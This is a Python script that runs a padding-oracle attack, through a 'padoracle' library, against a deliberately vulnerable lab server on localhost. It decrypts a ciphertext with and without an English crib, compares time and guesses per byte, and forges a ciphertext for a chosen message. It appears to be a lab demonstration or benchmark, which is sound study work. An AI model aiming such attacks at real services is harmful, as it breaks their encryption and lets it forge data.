#!/usr/bin/env python3
import argparse
import logging
import time

import requests

from padoracle import PadOracle, RemoteOracle

VERBOSE = True

parser = argparse.ArgumentParser(description='Attack the damned vulnerable padding server')
parser.add_argument('-u', '--url', default='http://localhost:8080', help='server base URL (default: http://localhost:8080)')
parser.add_argument('-t', '--threads', type=int, default=1, help='blocks to decrypt at once (default: 1)')
parser.add_argument('-d', '--debug', action='store_true', help='enable debug logging')
args = parser.parse_args()

logging.basicConfig(level=logging.DEBUG if args.debug else logging.WARNING)

r = requests.get(f'{args.url}/encrypt-with-iv')
ciphertext = bytes.fromhex(r.text)

print(f'[+] Got ciphertext: {ciphertext.hex()}')


def oracle():
	return RemoteOracle(f'{args.url}/decrypt-with-iv/{{guess}}', ciphertext[16:], iv=ciphertext[:16])


print('[+] Decrypting without crib...')
t0_no_crib = time.time_ns()
attack = PadOracle(oracle(), threads=args.threads, verbose=VERBOSE)
plaintext = attack.decrypt()
t1_no_crib = time.time_ns()

print(plaintext)
guesses_per_byte_no_crib = attack.guesses / len(plaintext)
print()

print('[+] Decrypting with crib...')
t0_crib = time.time_ns()
attack = PadOracle(oracle(), crib=PadOracle.CRIB_ENGLISH, threads=args.threads, verbose=VERBOSE)
plaintext = attack.decrypt()
t1_crib = time.time_ns()

print(plaintext)
guesses_per_byte_crib = attack.guesses / len(plaintext)
print()

no_crib = t1_no_crib - t0_no_crib
crib = t1_crib - t0_crib
delta = crib / no_crib * 100
print(f'[+] Crib took {delta:.1f}% of the time to decrypt vs without crib')
print(f'[+] Guesses per byte:\n    Without crib = {guesses_per_byte_no_crib:.1f}\n    With crib    = {guesses_per_byte_crib:.1f}')
print()

print('[+] Encrypting message: a test message!')
attack = PadOracle(oracle(), verbose=VERBOSE)
result = attack.encrypt(b'a test message!', known_ct=ciphertext, known_pt=plaintext)
print(result.hex())
